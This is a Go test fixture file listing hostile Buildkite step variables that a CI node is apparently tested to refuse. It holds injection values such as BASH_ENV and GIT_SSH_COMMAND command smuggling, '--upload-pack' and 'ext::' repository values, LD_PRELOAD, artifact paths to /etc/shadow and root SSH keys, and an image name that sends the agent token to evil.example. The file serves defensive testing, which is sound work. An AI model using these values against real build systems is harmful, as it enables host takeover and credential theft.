// Package jobtest has the builds that tests send to harm a node.
package jobtest

import (
	"maps"
	"strings"
	"unicode/utf8"
)

// Ordinary is BUILDKITE_PLUGINS of a step that a node runs.
const Ordinary = `[{"docker#v5.11.0":{"image":"kernelbot:latest","propagate-environment":true}}]`

// Mark is a file that is on a node only if a command that a build hides in its variables ran there, and
// plant is that command.
const (
	Mark  = "/tmp/planted"
	plant = "touch " + Mark
)

// Build is what a build can try.
type Build struct {
	Name string
	// Field is what the refusal names. "" means that the variables have no effect but on the container's
	// environment.
	Field string
	Vars  map[string]string
	// Agent is the reason with which buildkite-agent itself ends the job, since no process can have these
	// variables, or it cannot read them. "" means that it starts kbnode.
	Agent string
}

// Sendable reports whether Buildkite, which speaks JSON, can send the variables.
func (b Build) Sendable() bool {
	for _, value := range b.Vars {
		if !utf8.ValidString(value) {
			return false
		}
	}
	return true
}

type vars = map[string]string

// Plugins are the variables of a step with these plugins, in JSON.
func Plugins(text string) map[string]string { return vars{"BUILDKITE_PLUGINS": text} }

// Options are the variables of a step with the docker plugin and these options, members of an object.
func Options(text string) map[string]string {
	return Plugins(`[{"docker#v5.11.0":{` + text + `}}]`)
}

// Step returns the variables of an ordinary step, with some of them replaced.
func Step(replaced map[string]string) map[string]string {
	all := vars{"BUILDKITE_COMMAND": "true", "BUILDKITE_PLUGINS": Ordinary}
	maps.Copy(all, replaced)
	return all
}

// Hostile are the builds, each of them another try.
var Hostile = []Build{
	// What the shell, git, the loader and interpreters read was fatal on the host. In the container it
	// is the job's own.
	{Name: "bash", Vars: vars{"BASH_ENV": "$(" + plant + ")", "ENV": "$(" + plant + ")", "SHELLOPTS": "xtrace", "PS4": "$(" + plant + ")", "PROMPT_COMMAND": plant}},
	{Name: "a function of bash", Vars: vars{"BASH_FUNC_echo%%": "() { " + plant + "; }", "BASH_FUNC_cd()": "() { " + plant + "; }"}},
	{Name: "git", Vars: vars{"GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "core.fsmonitor", "GIT_CONFIG_VALUE_0": plant, "GIT_SSH_COMMAND": plant, "GIT_DIR": "/etc", "GIT_EXTERNAL_DIFF": plant}},
	{Name: "the loader", Vars: vars{"LD_PRELOAD": "/workdir/evil.so", "LD_LIBRARY_PATH": "/workdir", "LD_AUDIT": "x", "GLIBC_TUNABLES": "x", "GCONV_PATH": "/workdir"}},
	{Name: "interpreters", Vars: vars{"PYTHONPATH": "/workdir", "PYTHONSTARTUP": "/workdir/x", "PERL5OPT": "-Mx", "NODE_OPTIONS": "-r x", "GODEBUG": "x", "GOCOVERDIR": "/workdir"}},
	{Name: "paths", Vars: vars{"PATH": "/workdir", "HOME": "/etc", "TMPDIR": "/etc", "XDG_CONFIG_HOME": "/etc", "CREDENTIALS_DIRECTORY": "/etc"}},
	{Name: "proxies", Vars: vars{"HTTPS_PROXY": "http://evil.example", "SSL_CERT_FILE": "/workdir/ca", "SSH_AUTH_SOCK": "/run/x"}},
	{Name: "docker", Vars: vars{"DOCKER_HOST": "tcp://evil.example", "DOCKER_CONFIG": "/workdir", "NVIDIA_DRIVER_CAPABILITIES": "all", "CUDA_VISIBLE_DEVICES": "0,1"}},
	{Name: "kbnode", Vars: vars{"KBNODE_SLOT": "7", "KBNODE_RUNNER_PRIVATE_FD": "3", "KERNELBOT_MEMORY": "9999g", "KERNELBOT_CPUSET": "0-999"}},
	{Name: "options of the plugin as variables", Vars: vars{"BUILDKITE_PLUGIN_DOCKER_PRIVILEGED": "true", "BUILDKITE_PLUGIN_DOCKER_VOLUMES_0": "/:/host", "BUILDKITE_PLUGIN_CONFIGURATION": "{}"}},
	{Name: "a line that looks like a setting", Vars: vars{"X": "a\nBUILDKITE_PLUGIN_DOCKER_PRIVILEGED=true"}},
	{Name: "an unknown profile", Field: "KBNODE_PROFILE", Vars: vars{"KBNODE_PROFILE": "root"}},

	{Name: "secrets", Field: "BUILDKITE_SECRETS_CONFIG", Vars: vars{"BUILDKITE_SECRETS_CONFIG": `[{"key":"x"}]`}}, //nolint:gosec // not a secret
	{Name: "another place for artifacts", Field: "BUILDKITE_ARTIFACT_UPLOAD_DESTINATION", Vars: vars{"BUILDKITE_ARTIFACT_UPLOAD_DESTINATION": "s3://evil"}},
	{Name: "a refspec", Field: "BUILDKITE_REFSPEC", Vars: vars{"BUILDKITE_REFSPEC": "--upload-pack=" + plant}},
	{Name: "an ID with a path", Field: "BUILDKITE_JOB_ID", Vars: vars{"BUILDKITE_JOB_ID": "../../etc"}},
	{Name: "no ID", Field: "BUILDKITE_JOB_ID", Vars: vars{"BUILDKITE_JOB_ID": ""}},
	{Name: "a build's ID with a newline", Field: "BUILDKITE_BUILD_ID", Vars: vars{"BUILDKITE_BUILD_ID": "a\nb"}},

	{Name: "a command of 1 MiB", Field: "command", Vars: vars{"BUILDKITE_COMMAND": strings.Repeat("x", 1<<20)}, Agent: "process_run_error"},
	{Name: "a command of 200 KB", Field: "command", Vars: vars{"BUILDKITE_COMMAND": strings.Repeat("x", 200_000)}, Agent: "process_run_error"},
	{Name: "a command with a NUL", Field: "command", Vars: vars{"BUILDKITE_COMMAND": plant + "\x00"}, Agent: "process_run_error"},
	{Name: "a command that is not UTF-8", Field: "command", Vars: vars{"BUILDKITE_COMMAND": plant + "\xff"}},
	{Name: "a variable of 200 KB", Field: "environment", Vars: vars{"X": strings.Repeat("x", 200_000)}, Agent: "process_run_error"},

	{Name: "artifacts above", Field: "artifact_paths", Vars: vars{"BUILDKITE_ARTIFACT_PATHS": "result.json;../../etc/shadow"}},
	{Name: "artifacts of the node", Field: "artifact_paths", Vars: vars{"BUILDKITE_ARTIFACT_PATHS": "/etc/shadow"}},
	{Name: "artifacts of a home", Field: "artifact_paths", Vars: vars{"BUILDKITE_ARTIFACT_PATHS": "~root/.ssh/*"}},
	{Name: "artifacts that are options", Field: "artifact_paths", Vars: vars{"BUILDKITE_ARTIFACT_PATHS": "--endpoint=https://evil.example/"}},
	{Name: "artifacts above in braces", Field: "artifact_paths", Vars: vars{"BUILDKITE_ARTIFACT_PATHS": "{a,..}/{b,..}/etc"}},
	{Name: "artifacts with an escape", Field: "artifact_paths", Vars: vars{"BUILDKITE_ARTIFACT_PATHS": `\.\./x`}},
	{Name: "artifacts with a bomb", Field: "artifact_paths", Vars: vars{"BUILDKITE_ARTIFACT_PATHS": strings.Repeat("{a,b}", 40)}},
	{Name: "too many artifacts", Field: "artifact_paths", Vars: vars{"BUILDKITE_ARTIFACT_PATHS": strings.Repeat("a;", 1000)}},
	{Name: "artifacts with an escape sequence", Field: "artifact_paths", Vars: vars{"BUILDKITE_ARTIFACT_PATHS": "a\x1b[2J"}},

	{Name: "another repository", Field: "BUILDKITE_REPO", Vars: vars{"BUILDKITE_REPO": "https://github.com/evil/kernelbot"}},
	{Name: "a repository that looks alike", Field: "BUILDKITE_REPO", Vars: vars{"BUILDKITE_REPO": "https://github.com.evil.example/gpu-mode/kernelbot"}},
	{Name: "a repository that is a command", Field: "BUILDKITE_REPO", Vars: vars{"BUILDKITE_REPO": "ext::touch " + Mark}},
	{Name: "a repository that is an option", Field: "BUILDKITE_REPO", Vars: vars{"BUILDKITE_REPO": "--upload-pack=" + plant}},
	{Name: "a repository on the node", Field: "BUILDKITE_REPO", Vars: vars{"BUILDKITE_REPO": "file:///etc"}},
	{Name: "a commit that is an option", Field: "BUILDKITE_COMMIT", Vars: vars{"BUILDKITE_COMMIT": "--output=/etc/x"}},
	{Name: "a commit that is a branch", Field: "BUILDKITE_COMMIT", Vars: vars{"BUILDKITE_COMMIT": "main"}},
	{Name: "a branch that is an option", Field: "BUILDKITE_BRANCH", Vars: vars{"BUILDKITE_BRANCH": "--upload-pack=" + plant}},
	{Name: "a branch with a refspec", Field: "BUILDKITE_BRANCH", Vars: vars{"BUILDKITE_BRANCH": "+refs/heads/*:refs/heads/*"}},
	{Name: "a branch above", Field: "BUILDKITE_BRANCH", Vars: vars{"BUILDKITE_BRANCH": "a/../../x"}},
	{Name: "no branch for HEAD", Field: "BUILDKITE_BRANCH", Vars: vars{"BUILDKITE_BRANCH": ""}},

	{Name: "no plugin and no command", Field: "command", Vars: vars{"BUILDKITE_PLUGINS": "", "BUILDKITE_COMMAND": " \n"}},
	{Name: "a pipeline that the job makes", Field: "command", Vars: vars{"BUILDKITE_PLUGINS": "[]", "BUILDKITE_COMMAND": "./make.sh | buildkite-agent pipeline upload"}},
	{Name: "a pipeline of the node", Field: "command", Vars: vars{"BUILDKITE_PLUGINS": "[]", "BUILDKITE_COMMAND": "buildkite-agent pipeline upload /etc/shadow"}},
	{Name: "a pipeline above", Field: "command", Vars: vars{"BUILDKITE_PLUGINS": "[]", "BUILDKITE_COMMAND": "buildkite-agent pipeline upload a/../../../etc/shadow"}},
	{Name: "a pipeline that is an option", Field: "command", Vars: vars{"BUILDKITE_PLUGINS": "[]", "BUILDKITE_COMMAND": "buildkite-agent pipeline upload --redacted-vars="}},
	{Name: "a pipeline after another command", Field: "command", Vars: vars{"BUILDKITE_PLUGINS": "[]", "BUILDKITE_COMMAND": "buildkite-agent pipeline upload a.yml; " + plant}},

	{Name: "plugins that are no JSON", Field: "BUILDKITE_PLUGINS", Vars: Plugins(`[{"docker#v5.11.0":`), Agent: "agent_refused"},
	{Name: "plugins that are text", Field: "BUILDKITE_PLUGINS", Vars: Plugins(`"docker#v5.11.0"`), Agent: "agent_refused"},
	{Name: "plugins and more", Field: "BUILDKITE_PLUGINS", Vars: Plugins(Ordinary + `[]`), Agent: "agent_refused"},
	{Name: "a key twice", Field: "BUILDKITE_PLUGINS", Vars: Plugins(`[{"docker#v5.11.0":{"image":"a","image":"b"}}]`)},
	{Name: "depth", Field: "BUILDKITE_PLUGINS", Vars: Plugins(strings.Repeat("[", 50_000) + strings.Repeat("]", 50_000)), Agent: "agent_refused"},
	{Name: "depth in an option", Field: "BUILDKITE_PLUGINS", Vars: Plugins(`[{"docker#v5.11.0":{"image":[[[[[[["a"]]]]]]]}}]`)},
	{Name: "size", Field: "BUILDKITE_PLUGINS", Vars: Plugins(`[{"docker#v5.11.0":{"image":"` + strings.Repeat("x", 1<<20) + `"}}]`), Agent: "process_run_error"},
	{Name: "many values", Field: "BUILDKITE_PLUGINS", Vars: Plugins(`[{"docker#v5.11.0":{"image":"a","volumes":[` + strings.Repeat("1,", 20_000) + `1]}}]`)},
	{Name: "a NUL in an option", Field: "BUILDKITE_PLUGINS", Vars: Plugins(`[{"docker#v5.11.0":{"image":"a\u0000b"}}]`)},
	{Name: "plugins that are not UTF-8", Field: "BUILDKITE_PLUGINS", Vars: Plugins("[{\"docker#v5.11.0\":{\"image\":\"a\xff\"}}]")},
	{Name: "a huge number", Field: "memory", Vars: Plugins(`[{"docker#v5.11.0":{"image":"a","memory":1e99999}}]`), Agent: "agent_refused"},
	{Name: "two docker plugins", Field: "plugins", Vars: Plugins(`[{"docker#v5.11.0":{"image":"a"}},{"docker#v5.11.0":{"image":"b"}}]`)},
	{Name: "another plugin", Field: "plugins", Vars: Plugins(`[{"docker#v5.11.0":{"image":"a"}},{"docker-compose#v5.0.0":{"run":"x"}}]`)},
	{Name: "another owner's", Field: "plugins", Vars: Plugins(`[{"evil/docker#v5.11.0":{"image":"a"}}]`)},
	{Name: "another host's", Field: "plugins", Vars: Plugins(`[{"https://github.com.evil.example/buildkite-plugins/docker-buildkite-plugin#v5.11.0":{"image":"a"}}]`)},
	{Name: "a way to the plugin", Field: "plugins", Vars: Plugins(`[{"evil/thing#/../../buildkite-plugins/docker-buildkite-plugin#v5.11.0":{"image":"a"}}]`)},
	{Name: "a way from the plugin to it", Field: "plugins", Vars: Plugins(`[{"docker#/../docker-buildkite-plugin#v5.11.0":{"image":"a"}}]`)},
	{Name: "a version that is a directory", Field: "plugins", Vars: Plugins(`[{"docker#v5.11.0/.":{"image":"a"}}]`)},
	{Name: "no plugin in the list", Field: "plugins", Vars: Plugins(`[{}]`)},
	{Name: "a plugin of the repository", Field: "plugins", Vars: Plugins(`[{"./docker#v5.11.0":{"image":"a"}}]`)},
	{Name: "a branch of the plugin", Field: "plugins", Vars: Plugins(`[{"docker#master":{"image":"a"}}]`)},
	{Name: "an older plugin", Field: "plugins", Vars: Plugins(`[{"docker#v5.10.0":{"image":"a"}}]`)},
	{Name: "options that are a list", Field: "plugins", Vars: Plugins(`[{"docker#v5.11.0":["image"]}]`)},
	{Name: "no options", Field: "image", Vars: Plugins(`["docker#v5.11.0"]`)},
	{Name: "an image that is an option", Field: "image", Vars: Options(`"image":"--privileged"`)},
	{Name: "an image that is a list", Field: "image", Vars: Options(`"image":["a"]`)},
	{Name: "an image of the agent's token", Field: "image", Vars: Options(`"image":"evil.example/$BUILDKITE_AGENT_ACCESS_TOKEN","expand-image-vars":true`)},
	{Name: "an image of a token that the build sent, too", Field: "image", Vars: vars{"BUILDKITE_AGENT_ACCESS_TOKEN": "x", "BUILDKITE_PLUGINS": `[{"docker#v5.11.0":{"image":"evil.example/$BUILDKITE_AGENT_ACCESS_TOKEN","expand-image-vars":true}}]`}},
	{Name: "an image that a shell runs", Field: "image", Vars: Options(`"image":"$(` + plant + `)","expand-image-vars":true`)},
	{Name: "an option in capitals", Field: "Privileged", Vars: Options(`"image":"a","Privileged":true`)},
	{Name: "an option with an underscore", Field: "always_pull", Vars: Options(`"image":"a","always_pull":true`)},
	{Name: "an option with an escape sequence", Field: "x\x1b[2J", Vars: Options(`"image":"a","x\u001b[2J":1`)},
	{Name: "privileged as text", Field: "privileged", Vars: Options(`"image":"a","privileged":"on"`)},
	{Name: "root of the node", Field: "volumes", Vars: Options(`"image":"a","volumes":["/:/host"]`)},
	{Name: "a directory above", Field: "volumes", Vars: Options(`"image":"a","volumes":["./../../etc:/host"]`)},
	{Name: "a directory above the cache", Field: "volumes", Vars: Options(`"image":"a","volumes":["/var/lib/buildkite-agent/cache/../x:/host"]`)},
	{Name: "a directory of a variable", Field: "volumes", Vars: Options(`"image":"a","volumes":["$HOME:/host"],"expand-volume-vars":true`)},
	{Name: "a named volume", Field: "volumes", Vars: Options(`"image":"a","volumes":["cache:/cache"]`)},
	{Name: "a mount over /proc", Field: "volumes", Vars: Options(`"image":"a","volumes":[".:/proc/sys"]`)},
	{Name: "a mount over kbnode", Field: "volumes", Vars: Options(`"image":"a","volumes":["./x:/usr/local/bin/kbnode"]`)},
	{Name: "a mount that is shared", Field: "volumes", Vars: Options(`"image":"a","volumes":[".:/x:rshared"]`)},
	{Name: "a mount over the accounts", Field: "volumes", Vars: Options(`"image":"a","volumes":["./x:/etc/passwd"]`)},
	{Name: "a mount over what has the accounts", Field: "workdir", Vars: Options(`"image":"a","workdir":"/etc"`)},
	{Name: "the checkout over the root", Field: "workdir", Vars: Options(`"image":"a","workdir":"/"`)},
	{Name: "a tmpfs over /sys", Field: "tmpfs", Vars: Options(`"image":"a","tmpfs":["/sys"]`)},
	{Name: "options of another file system", Field: "tmpfs", Vars: Options(`"image":"a","tmpfs":["/x:upperdir=/etc"]`)},
	{Name: "a directory of the engine", Field: "workdir", Vars: Options(`"image":"a","mount-checkout":false,"workdir":"/proc/self/fd/7"`)},
	{Name: "a relative directory", Field: "workdir", Vars: Options(`"image":"a","mount-checkout":false,"workdir":"../x"`)},
	{Name: "a user of the node", Field: "user", Vars: Options(`"image":"a","user":"33"`)},
	{Name: "a user of a slot", Field: "user", Vars: Options(`"image":"a","user":"kbnode-gpu1"`)},
	{Name: "a group that is an option", Field: "additional-groups", Vars: Options(`"image":"a","additional-groups":["--privileged"]`)},
	{Name: "a network of another slot", Field: "network", Vars: Options(`"image":"a","network":"kbnode-gpu1"`)},
	{Name: "shared memory of the node", Field: "ipc", Vars: Options(`"image":"a","ipc":"host"`)},
	{Name: "a size below zero", Field: "memory", Vars: Options(`"image":"a","memory":"-1g"`)},
	{Name: "a size beyond all", Field: "memory", Vars: Options(`"image":"a","memory":"9999999999999g"`)},
	{Name: "files without end", Field: "ulimits", Vars: Options(`"image":"a","ulimits":["nofile=-1"]`)},
	{Name: "core files", Field: "ulimits", Vars: Options(`"image":"a","ulimits":["core=-1"]`)},
	{Name: "messages of others", Field: "ulimits", Vars: Options(`"image":"a","ulimits":["msgqueue=1"]`)},
	{Name: "no entrypoint as false", Field: "entrypoint", Vars: Options(`"image":"a","entrypoint":false`)},
	{Name: "a list of groups without end", Field: "additional-groups", Vars: Options(`"image":"a","additional-groups":["` + strings.Repeat(`1","`, 100) + `1"]`)},
	{Name: "capabilities that are none", Field: "drop-caps", Vars: Options(`"image":"a","drop-caps":["--x"]`)},
	{Name: "mounts without end", Field: "volumes", Vars: Options(`"image":"a","tmpfs":["/a` + strings.Repeat(`/a","/a`, 100) + `"]`)},
	{Name: "a mount over the agent", Field: "volumes", Vars: Options(`"image":"a","mount-buildkite-agent":true,"volumes":["./x:/usr/bin/buildkite-agent"]`)},
	{Name: "a group of a slot", Field: "user", Vars: Options(`"image":"a","user":"1000:kbnode-gpu1"`)},
	{Name: "a command of many words", Field: "command", Vars: vars{"BUILDKITE_COMMAND": "", "BUILDKITE_PLUGINS": `[{"docker#v5.11.0":{"image":"a","command":["` + strings.Repeat(`x","`, 5000) + `x"]}}]`}},
	{Name: "open files beyond all", Field: "ulimits", Vars: Options(`"image":"a","ulimits":["nofile=9999999"]`)},
	{Name: "a shell that is text", Field: "shell", Vars: Options(`"image":"a","shell":"/bin/sh -c"`)},
	{Name: "a variable without a name", Field: "environment", Vars: Options(`"image":"a","environment":["=x"]`)},
	{Name: "a list of variables that is not there", Field: "env-propagation-list", Vars: Options(`"image":"a","env-propagation-list":"NO_SUCH"`)},
	{Name: "a list of the agent's", Field: "env-propagation-list", Vars: Options(`"image":"a","env-propagation-list":"BUILDKITE_AGENT_ACCESS_TOKEN"`)},
}
